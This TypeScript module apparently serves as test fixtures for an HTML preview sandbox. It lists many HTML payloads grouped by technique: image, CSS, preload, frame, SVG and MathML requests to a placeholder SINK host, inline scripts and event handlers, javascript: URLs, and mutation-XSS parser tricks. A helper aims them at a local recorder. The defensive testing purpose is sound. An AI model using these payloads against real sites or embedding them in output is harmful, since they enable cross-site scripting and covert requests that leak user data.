/**
 * Attacks that the preview must block: HTML that sends a request, runs a script or navigates.
 * In the HTML, `SINK` is a URL that records requests, `SOCKET` one that records connections, and `RUN` is code that
 * reports that it ran.
 */
export interface Attack {
  readonly name: string;
  readonly html: string;
}

type Named = Readonly<Record<string, string>>;

/** Puts HTML into the head, for elements that only work there. */
const head = (html: string): string => `<!doctype html><html><head>${html}</head><body><p>a</p></body></html>`;
const css = (rules: string): string => `<style>${rules}</style><div class="a">a</div>`;
const inSvg = (html: string): string =>
  `<svg xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9">${html}</svg>`;

/** Attacks that make a browser send a request or open a connection without user interaction. */
export const callGroups: Readonly<Record<string, Named>> = {
  images: {
    'img-src': '<img src="SINK">',
    'img-src-unquoted': '<img src=SINK>',
    'img-src-entities': '<img src="&#104;ttp:SINK_WITHOUT_SCHEME">',
    'img-src-protocol-relative': '<img src="SINK_WITHOUT_SCHEME">',
    'img-src-backslashes': '<img src="http:\\\\SINK_HOST">',
    'img-src-spaces': '<img src=" \t\nSINK ">',
    'img-src-line-break': '<img src="ht\ntp:SINK_WITHOUT_SCHEME">',
    'img-src-lazy': '<img loading="lazy" src="SINK">',
    'img-src-eager-priority': '<img fetchpriority="high" decoding="sync" src="SINK">',
    'img-src-unclosed': '<img src="SINK" alt="',
    'img-srcset': '<img srcset="SINK 1x">',
    'img-srcset-many': '<img src="data:," srcset="data:, 1x, SINK 1.5x, SINK 2x, SINK 3x">',
    'img-srcset-sizes': '<img sizes="100vw" srcset="SINK 100w, SINK 2000w">',
    'img-srcset-auto-sizes': '<img loading="lazy" sizes="auto" srcset="SINK 100w">',
    'image-tag': '<image src="SINK">',
    'img-crossorigin': '<img crossorigin="use-credentials" src="SINK">',
    'img-attributionsrc': '<img attributionsrc="SINK" src="SINK">',
    'img-lowsrc': '<img lowsrc="SINK" dynsrc="SINK" src="SINK">',
    'picture-source': '<picture><source srcset="SINK"><img src="data:,"></picture>',
    'picture-source-media': '<picture><source media="(min-width: 1px)" srcset="SINK"><img></picture>',
    'picture-source-type': '<picture><source type="image/webp" srcset="SINK"><img></picture>',
    'input-image': '<input type="image" src="SINK">',
    'img-in-noscript': '<noscript><img src="SINK"></noscript>',
    'img-in-noembed': '<noembed><img src="SINK"></noembed><p title="</noembed><img src=SINK>">a</p>',
    'img-in-template': '<div><template shadowrootmode="open"><img src="SINK"></template></div>',
    'img-in-closed-shadow':
      '<div><template shadowrootmode="closed"><style>:host{background:url(SINK)}</style></template></div>',
    'img-in-select': '<select><option><img src="SINK"></select>',
    'img-in-frameset': '<frameset><noframes></noframes><img src="SINK"></frameset><img src="SINK">',
    'img-after-comment-trick': '<!--><img src="SINK">-->',
    'img-after-cdata-trick': '<svg><![CDATA[><img src="SINK">]]></svg><![CDATA[><img src="SINK">',
    'img-after-instruction': '<?xml version="1.0"?><?xml-stylesheet href="SINK"?><img src="SINK">',
    'img-conditional-comment': '<!--[if gte mso 9]><img src="SINK"><![endif]--><![if !mso]><img src="SINK"><![endif]>',
  },
  backgrounds: {
    'body-background': '<body background="SINK">a</body>',
    'table-background': '<table background="SINK"><tr><td>a</table>',
    'td-background': '<table><tr><td background="SINK">a</table>',
    'tr-background': '<table><tbody background="SINK"><tr background="SINK"><td>a</table>',
    'style-background': '<div style="background:url(SINK)">a</div>',
    'style-background-quotes': `<div style="background-image:url('SINK')">a</div>`,
    'style-background-escaped': '<div style="background:\\75\\72\\6c(SINK)">a</div>',
    'style-background-escaped-letter': '<div style="background:u\\rl(SINK)">a</div>',
    'style-background-case': '<div style="BACKGROUND:URL( SINK )">a</div>',
    'style-background-comment': '<div style="background:/*;*/url(SINK)">a</div>',
    'style-background-entities': '<div style="background:&#117;&#114;&#108;&#40;SINK&#41;">a</div>',
    'style-background-unclosed': '<div style="background:url(SINK">a</div>',
    'style-image-set': `<div style="background:image-set('SINK' 1x)">a</div>`,
    'style-webkit-image-set': '<div style="background:-webkit-image-set(url(SINK) 1x)">a</div>',
    'style-image-set-type': `<div style="background:image-set('SINK' type('image/png') 1x)">a</div>`,
    'style-cross-fade': '<div style="background:-webkit-cross-fade(url(SINK),url(SINK),50%)">a</div>',
    'style-border-image': '<div style="border:9px solid;border-image:url(SINK) 1">a</div>',
    'style-list-image': '<ul><li style="list-style-image:url(SINK)">a</ul>',
    'style-cursor': '<div style="cursor:url(SINK),auto">a</div>',
    'style-content': '<div style="content:url(SINK)">a</div>',
    'style-mask': '<div style="-webkit-mask-image:url(SINK);mask-image:url(SINK)">a</div>',
    'style-filter': '<div style="filter:url(SINK#a)">a</div>',
    'style-clip-path': '<div style="clip-path:url(SINK#a)">a</div>',
    'style-shape-outside': '<div style="float:left;shape-outside:url(SINK)">a</div>',
    'style-offset-path': '<div style="offset-path:url(SINK#a)">a</div>',
    'style-variable': '<div style="--a:url(SINK);background:var(--a)">a</div>',
    'style-behavior': '<div style="behavior:url(SINK);-moz-binding:url(SINK#a);background:url(SINK)">a</div>',
  },
  'style sheets': {
    'link-stylesheet': head('<link rel="stylesheet" href="SINK">'),
    'link-stylesheet-body': '<p>a</p><link rel="stylesheet" href="SINK">',
    'link-stylesheet-alternate': head('<link rel="alternate stylesheet" title="a" href="SINK">'),
    'link-stylesheet-media': head('<link rel="stylesheet" media="print" href="SINK">'),
    'style-import': head('<style>@import "SINK";</style>'),
    'style-import-url': head('<style>@import url(SINK);</style>'),
    'style-import-escaped': head('<style>@\\69 mport "SINK";</style>'),
    'style-import-layer': head('<style>@import url("SINK") layer(a) supports(display:block) screen;</style>'),
    'style-import-after-charset': head('<style>@charset "utf-8";@import "SINK";</style>'),
    'style-import-body': css('@import "SINK";'),
    'sheet-background': css('.a{background:url(SINK)}'),
    'sheet-background-media': css('@media all{@supports (display:block){.a{background:url(SINK)}}}'),
    'sheet-background-nested': css('div{&.a{background:url(SINK)}}'),
    'sheet-background-layer': css('@layer a{.a{background:url(SINK)}}'),
    'sheet-background-container': css('.a{background:url(SINK)} body{container-type:inline-size}'),
    'sheet-pseudo-element': css('.a::before{content:url(SINK)}'),
    'sheet-marker': css('.a{display:list-item}.a::marker{content:url(SINK)}'),
    'sheet-first-line': css('.a::first-line{background:url(SINK)}'),
    'sheet-attribute-selector': css('div[class^="a"]{background:url(SINK)}'),
    'sheet-image-set': css('.a{background:image-set("SINK" 1x)}'),
    'sheet-animation': css('@keyframes b{to{background:url(SINK)}}.a{animation:b .1s forwards}'),
    'sheet-starting-style': css('.a{transition:all .1s;@starting-style{background:url(SINK)}}'),
    'sheet-property': css(
      '@property --b{syntax:"*";inherits:false;initial-value:url(SINK)}.a{background:var(--b,url(SINK))}',
    ),
    'sheet-html-comment': css('<!-- .a{background:url(SINK)} -->'),
    'sheet-after-bad-string': css('.b{content:"\n}.a{background:url(SINK)}'),
    'sheet-early-end': '<style>a{content:"</style><img src=SINK>"}</style>',
    'sheet-in-svg': inSvg('<style>rect{fill:red}</style><style>@import "SINK";</style>'),
    'sheet-in-svg-entities':
      '<svg><style>&lt;/style>&lt;img src=SINK></style></svg><style>.a{background:url(SINK)}</style><p class=a>a',
    'font-face': css('@font-face{font-family:b;src:url(SINK)}.a{font-family:b}'),
    'font-face-format': css('@font-face{font-family:b;src:local("c"),url("SINK") format("woff2")}.a{font-family:b}'),
    'font-face-range': css('@font-face{font-family:b;unicode-range:U+61;src:url(SINK)}.a{font-family:b}'),
  },
  preloading: {
    'link-preload-image': head('<link rel="preload" as="image" href="SINK">'),
    'link-preload-imagesrcset': head('<link rel="preload" as="image" imagesrcset="SINK 1x" imagesizes="1px">'),
    'link-preload-style': head('<link rel="preload" as="style" href="SINK">'),
    'link-preload-font': head('<link rel="preload" as="font" crossorigin href="SINK">'),
    'link-preload-script': head('<link rel="preload" as="script" href="SINK">'),
    'link-preload-fetch': head('<link rel="preload" as="fetch" crossorigin href="SINK">'),
    'link-preload-body': '<p>a</p><link rel="preload" as="image" href="SINK">',
    'link-modulepreload': head('<link rel="modulepreload" href="SINK">'),
    'link-prefetch': head('<link rel="prefetch" href="SINK">'),
    'link-prerender': head('<link rel="prerender" href="SINK">'),
    'link-preconnect': head('<link rel="preconnect" href="SOCKET">'),
    'link-preconnect-crossorigin': head('<link rel="preconnect" crossorigin href="SOCKET">'),
    'link-preconnect-body': '<p>a</p><link rel="preconnect" href="SOCKET">',
    'link-dns-prefetch': head(
      '<meta http-equiv="x-dns-prefetch-control" content="on"><link rel="dns-prefetch" href="SOCKET">',
    ),
    'link-next': head('<link rel="next" href="SINK"><link rel="stylesheet" href="SINK">'),
    'link-early-then-policy': head(
      `<link rel="preload" as="image" href="SINK"><meta http-equiv="Content-Security-Policy" content="img-src *">`,
    ),
    'speculation-rules': head(
      '<script type="speculationrules">{"prefetch":[{"urls":["SINK"],"eagerness":"immediate"}]}</script>',
    ),
    'meta-preload-header': head('<meta http-equiv="Link" content="<SINK>; rel=preload; as=image"><img src="SINK">'),
  },
  'links of the page': {
    'link-icon': head('<link rel="icon" href="SINK"><link rel="shortcut icon" href="SINK"><img src="SINK">'),
    'link-apple-touch-icon': head('<link rel="apple-touch-icon" href="SINK"><img src="SINK">'),
    'link-manifest': head('<link rel="manifest" href="SINK"><img src="SINK">'),
    'html-manifest': '<html manifest="SINK"><img src="SINK"></html>',
    'link-import': head('<link rel="import" href="SINK"><img src="SINK">'),
    'link-dictionary': head('<link rel="compression-dictionary" href="SINK"><img src="SINK">'),
    'base-href': head('<base href="SINK/"><img src="a">'),
    'base-href-late': '<img src="a"><base href="SINK/"><img src="b">',
    'head-profile': '<head profile="SINK"><style>p{background:url(SINK)}</style></head><p>a',
  },
  media: {
    'audio-src': '<audio autoplay src="SINK"></audio>',
    'audio-preload': '<audio preload="auto" src="SINK" controls></audio>',
    'audio-source': '<audio autoplay><source src="SINK"></audio>',
    'video-src': '<video autoplay muted src="SINK"></video>',
    'video-poster': '<video poster="SINK"></video>',
    'video-source': '<video autoplay muted><source src="SINK" type="video/mp4"></video>',
    'video-track': '<video muted src="data:video/mp4,"><track default src="SINK"></video><img src="SINK">',
    bgsound: '<bgsound src="SINK"><img src="SINK">',
  },
  frames: {
    'iframe-src': '<iframe src="SINK"></iframe>',
    'iframe-lazy': '<iframe loading="lazy" src="SINK"></iframe>',
    'iframe-srcdoc': '<iframe srcdoc="<img src=SINK>"></iframe>',
    'iframe-srcdoc-nested': '<iframe srcdoc="<iframe srcdoc=&quot;<img src=SINK>&quot;></iframe>"></iframe>',
    'iframe-data': '<iframe src="data:text/html,<img src=SINK>"></iframe>',
    'frameset-frame': '<html><head></head><frameset><frame src="SINK"></frameset></html>',
    'object-data': '<object data="SINK" type="text/html"></object>',
    'object-image': '<object data="SINK" type="image/png"></object>',
    'object-fallback': '<object data="x:"><img src="SINK"></object>',
    'object-codebase':
      '<object classid="clsid:a" codebase="SINK"><param name="movie" value="SINK"><img src="SINK"></object>',
    'embed-src': '<embed src="SINK">',
    'embed-svg': '<embed type="image/svg+xml" src="SINK">',
    applet: '<applet archive="SINK" code="a"><img src="SINK"></applet>',
    portal: '<portal src="SINK"></portal><fencedframe src="SINK"></fencedframe><img src="SINK">',
  },
  navigation: {
    'meta-refresh': head('<meta http-equiv="refresh" content="0;url=SINK">'),
    'meta-refresh-quotes': head(`<meta http-equiv="refresh" content="0; URL='SINK'">`),
    'meta-refresh-body': '<p>a</p><meta http-equiv="Refresh" content="0;SINK">',
    'meta-policy-report': head(
      `<meta http-equiv="Content-Security-Policy" content="img-src 'none'; report-uri SINK"><link rel="stylesheet" href="SINK">`,
    ),
  },
  svg: {
    'svg-image-href': inSvg('<image href="SINK" width="9" height="9"/>'),
    'svg-image-xlink': inSvg('<image xlink:href="SINK" width="9" height="9"/>'),
    'svg-fe-image': inSvg(
      '<filter id="a"><feImage href="SINK"/></filter><rect width="9" height="9" filter="url(#a)"/>',
    ),
    'svg-use': inSvg('<use href="SINK#a"/>'),
    'svg-fill': inSvg('<rect width="9" height="9" fill="url(SINK#a)"/><image href="SINK" width="1" height="1"/>'),
    'svg-style-fill': inSvg('<rect width="9" height="9" style="fill:url(SINK#a);mask:url(SINK#b)"/>'),
    'svg-foreign-object': inSvg('<foreignObject width="9" height="9"><img src="SINK"></foreignObject>'),
    'svg-animate-href': inSvg(
      '<image width="9" height="9"><animate attributeName="href" values="SINK" dur="1s" fill="freeze"/></image>',
    ),
    'svg-set-href': inSvg('<image width="9" height="9"><set attributeName="href" to="SINK"/></image>'),
    'svg-title': inSvg('<title><img src="SINK"></title><desc><img src="SINK"></desc>'),
    'svg-data-url': `<iframe src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='SINK'/></svg>"></iframe>`,
    'svg-script-href': inSvg('<script href="SINK"></script>'),
    'svg-escape-style': '<svg><style><img title="</style><img src=SINK>"></style></svg>',
    'svg-escape-title': '<svg></p><style><a title="</style><img src=SINK>">',
  },
  'other namespaces': {
    'mathml-mglyph': '<math><mtext><mglyph src="SINK"></mglyph><img src="SINK"></mtext></math>',
    'mathml-annotation': '<math><annotation-xml encoding="text/html"><img src="SINK"></annotation-xml></math>',
    'mathml-table-mutation':
      '<form><math><mtext></form><form><mglyph><style></math><img src="SINK"></style></mglyph></form></mtext></math>',
    'mathml-svg-mutation':
      '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=SINK&gt;">a</table>',
    'xhtml-prefix': '<html xmlns:x="http://www.w3.org/1999/xhtml"><x:img src="SINK"></x:img><img src="SINK"></html>',
  },
  'external scripts': {
    'script-src': head('<script src="SINK"></script>'),
    'script-module': head('<script type="module" src="SINK"></script>'),
    'script-async': '<script async defer src="SINK"></script>',
    'script-importmap': head(
      '<script type="importmap">{"imports":{"a":"SINK"}}</script><script type="module">import "a"</script>',
    ),
  },
};

const attribute = (name: string, tag: string): string => `<${tag} ${name}="RUN">`;

/** Attacks that run a script without user interaction. */
export const scriptGroups: Readonly<Record<string, Named>> = {
  'script elements': {
    script: '<script>RUN</script>',
    'script-case': '<ScRiPt>RUN</sCrIpT>',
    'script-space': '<script\n>RUN</script\t>',
    'script-slash': '<script/x>RUN</script>',
    'script-module-inline': '<script type="module">RUN</script>',
    'script-data-url': '<script src="data:text/javascript,RUN"></script>',
    'script-in-svg': '<svg><script>RUN</script></svg>',
    'script-in-svg-entities': '<svg><script>&#116;op.postMessage(`NAME`,`*`)</script></svg>',
    'script-in-svg-cdata': '<svg><script><![CDATA[RUN]]></script></svg>',
    'script-in-svg-data': '<svg><script href="data:text/javascript,RUN"></script></svg>',
    'script-in-math': '<math><mtext><script>RUN</script></mtext></math>',
    'script-in-foreign-object': '<svg><foreignObject><script>RUN</script></foreignObject></svg>',
    'script-in-shadow': '<div><template shadowrootmode="open"><script>RUN</script></template></div>',
    'script-after-comment': '<!--><script>RUN</script>-->',
    'script-after-bang-comment': '<!-- --!><script>RUN</script>',
    'script-after-title': '<title></title><script>RUN</script>',
    'script-after-textarea': '<textarea></textarea><script>RUN</script>',
    'script-in-table': '<table><script>RUN</script></table>',
    'script-in-select': '<select><script>RUN</script></select>',
    'script-double': '<scr<script>ipt>RUN</script><script>RUN</script>',
    'script-null': '<script\0>RUN</script><script>RUN</script>',
  },
  'load event handlers': {
    'img-onerror': '<img src="x:" onerror="RUN">',
    'img-onerror-unquoted': '<img src=x: onerror=RUN>',
    'img-onerror-slashes': '<img/src="x:"/onerror="RUN">',
    'img-onerror-entities': '<img src="x:" onerror="&#116;op.postMessage(`NAME`,`*`)">',
    'img-onload': '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN" onerror="RUN">',
    'img-srcset-onerror': '<img srcset="x:" onerror="RUN">',
    'image-onerror': '<image src="x:" onerror="RUN">',
    'body-onload': '<body onload="RUN">a</body>',
    'body-onpageshow': '<body onpageshow="RUN">a</body>',
    'body-onfocus': '<body onload="RUN" onfocus="RUN" onhashchange="RUN">a</body>',
    'svg-onload': '<svg onload="RUN"></svg>',
    'svg-onload-slash': '<svg/onload=RUN>',
    'svg-nested-onload': '<svg><svg onload="RUN"></svg></svg>',
    'svg-g-onload': '<svg><g onload="RUN"></g><svg onload="RUN"></svg></svg>',
    'svg-image-onerror': '<svg><image href="x:" onerror="RUN"/></svg>',
    'svg-image-onload':
      '<svg><image href="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN" onerror="RUN"/></svg>',
    'style-onload': '<style onload="RUN">a{}</style>',
    'style-onerror': '<style onerror="RUN" onload="RUN">@import "x:";</style>',
    'link-onload': '<link rel="stylesheet" href="data:text/css,a{}" onload="RUN" onerror="RUN">',
    'link-onerror': '<link rel="stylesheet" href="x:" onerror="RUN">',
    'script-onerror': '<script src="x:" onerror="RUN"></script>',
    'iframe-onload': '<iframe onload="RUN"></iframe>',
    'object-onerror': '<object data="x:" onerror="RUN" onload="RUN"></object>',
    'embed-onload': '<embed src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="RUN" onerror="RUN">',
    'audio-onerror': '<audio src="x:" onerror="RUN"></audio>',
    'audio-onloadstart': attribute('onloadstart', 'audio src="x:"'),
    'video-onerror': '<video src="x:" onerror="RUN"></video>',
    'video-source-onerror': '<video><source src="x:" onerror="RUN"></video>',
    'video-onloadstart': attribute('onloadstart', 'video src="x:"'),
    'input-image-onerror': '<input type="image" src="x:" onerror="RUN">',
    'frameset-onload': '<html><head></head><frameset onload="RUN"><frame></frameset></html>',
    'marquee-onstart': '<marquee onstart="RUN">a</marquee><img src="x:" onerror="RUN">',
  },
  'other event handlers': {
    'details-ontoggle': '<details open ontoggle="RUN"><summary>a</summary></details>',
    'input-autofocus': '<input autofocus onfocus="RUN">',
    'select-autofocus': '<select autofocus onfocus="RUN"></select>',
    'textarea-autofocus': '<textarea autofocus onfocus="RUN"></textarea>',
    'tabindex-autofocus': '<p tabindex="1" autofocus onfocus="RUN">a</p>',
    'animation-start': '<style>@keyframes a{}</style><p style="animation:a 1s" onanimationstart="RUN">a</p>',
    'animation-end': '<style>@keyframes a{}</style><p style="animation:a 10ms" onanimationend="RUN">a</p>',
    'animation-webkit': '<style>@keyframes a{}</style><p style="animation:a 10ms" onwebkitanimationend="RUN">a</p>',
    'transition-starting':
      '<style>p{opacity:1;transition:opacity 10ms;@starting-style{opacity:0}}</style><p ontransitionend="RUN">a</p>',
    'svg-animate-begin': '<svg><animate onbegin="RUN" attributeName="x" dur="1s"/></svg>',
    'svg-animate-end': '<svg><animate onend="RUN" attributeName="x" dur="10ms"/></svg>',
    'svg-set-begin': '<svg><set onbegin="RUN" attributeName="x" to="1"/></svg>',
    'content-visibility':
      '<p oncontentvisibilityautostatechange="RUN" style="content-visibility:auto">a</p><img src="x:" onerror="RUN">',
  },
  'script URLs': {
    'iframe-javascript': '<iframe src="javascript:RUN"></iframe>',
    'iframe-javascript-case': '<iframe src=" JaVa\tScript:RUN"></iframe>',
    'iframe-srcdoc-script': '<iframe srcdoc="<script>RUN</script>"></iframe>',
    'iframe-data-script': '<iframe src="data:text/html,<script>RUN</script>"></iframe>',
    'object-javascript': '<object data="data:text/html,<script>RUN</script>"></object>',
    'embed-data-script': '<embed type="text/html" src="data:text/html,<script>RUN</script>">',
    'embed-svg-script': `<embed src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><script>RUN</script></svg>">`,
    'meta-refresh-data':
      '<meta http-equiv="refresh" content="0;url=data:text/html,<script>RUN</script>"><img src="x:" onerror="RUN">',
    'meta-refresh-javascript': '<meta http-equiv="refresh" content="0;url=javascript:RUN"><img src="x:" onerror="RUN">',
    'base-javascript': '<base href="javascript:/"><iframe src="javascript:RUN"></iframe>',
  },
  'mutation XSS': {
    'mutation-math-style':
      '<math><mtext><table><mglyph><style><math><img src="x:" onerror="RUN"></style></mglyph></table></mtext></math>',
    'mutation-form-math':
      '<form><math><mtext></form><form><mglyph><style></math><img src="x:" onerror="RUN"></style></mglyph></form></mtext></math>',
    'mutation-svg-style': '<svg></p><style><a id="</style><img src=x: onerror=RUN>">',
    'mutation-svg-title':
      '<svg><title><style><img src="x:" onerror="RUN"></style></title></svg><img src="x:" onerror="RUN">',
    'mutation-noscript': '<noscript><p title="</noscript><img src=x: onerror=RUN>"></noscript>',
    'mutation-noembed': '<noembed><p title="</noembed><img src=x: onerror=RUN>"></noembed>',
    'mutation-xmp': '<xmp><p title="</xmp><img src=x: onerror=RUN>"></xmp>',
    'mutation-textarea': '<textarea><p title="</textarea><img src=x: onerror=RUN>"></textarea>',
    'mutation-title': '<title><p title="</title><img src=x: onerror=RUN>"></title>',
    'mutation-comment': '<!-- <p title="--><img src=x: onerror=RUN>"> -->',
    'mutation-style': '<style><p title="</style><img src=x: onerror=RUN>"></style>',
    'mutation-backtick': '<p title="``onerror=RUN "><img src="x:" alt="` onerror=RUN " onerror="RUN">',
  },
};

/** Links and buttons that navigate when they are clicked. Each fills the upper left corner of its frame. */
export const links: Named = (() => {
  const box = 'style="display:block;width:200px;height:80px;background:silver"';
  return {
    'a-href': `<a href="SINK" ${box}>a</a>`,
    'a-blank': `<a href="SINK" target="_blank" rel="opener" ${box}>a</a>`,
    'a-top': `<a href="SINK" target="_top" ${box}>a</a>`,
    'a-ping': `<a href="SINK" ping="SINK" ${box}>a</a>`,
    'a-base': `<base href="SINK/"><a href="b" ${box}>a</a>`,
    'a-picture': `<a href="SINK"><img ${box} alt="a" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></a>`,
    area: `<img usemap="#m" ${box} alt="a" src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAAAAACH5BAAAAAAALAAAAAABAAEAAAICRAEAOw=="><map name="m"><area href="SINK" coords="0,0,200,80"></map>`,
    'svg-a': `<svg width="200" height="80"><a href="SINK"><rect width="200" height="80"/></a></svg>`,
    'form-button': `<form action="SINK"><button name="b" ${box}>a</button></form>`,
    'button-formaction': `<form><button formaction="SINK" formmethod="post" ${box}>a</button></form>`,
    'input-image-form': `<form action="SINK"><input type="image" ${box} alt="a" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="></form>`,
  };
})();

const entriesOf = (groups: Readonly<Record<string, Named>>): readonly Attack[] =>
  Object.values(groups).flatMap((group) => Object.entries(group).map(([name, html]) => ({ name, html })));

export const calls = entriesOf(callGroups);
export const scripts = entriesOf(scriptGroups);

export interface Addresses {
  /** Such as `127.0.0.2:80`. */
  readonly httpHost: string;
  readonly tcpHost: string;
}

/** Fills in the URLs of an attack. Each contains the name of the attack. */
export function aimAttack({ name, html }: Attack, { httpHost, tcpHost }: Addresses): string {
  return html
    .replaceAll('SINK_WITHOUT_SCHEME', `//${httpHost}/${name}`)
    .replaceAll('SINK_HOST', `${httpHost}/${name}`)
    .replaceAll('SINK', `http://${httpHost}/${name}`)
    .replaceAll('SOCKET', `http://${tcpHost}/${name}`)
    .replaceAll('RUN', 'top.postMessage(`NAME`,`*`)')
    .replaceAll('NAME', name);
}
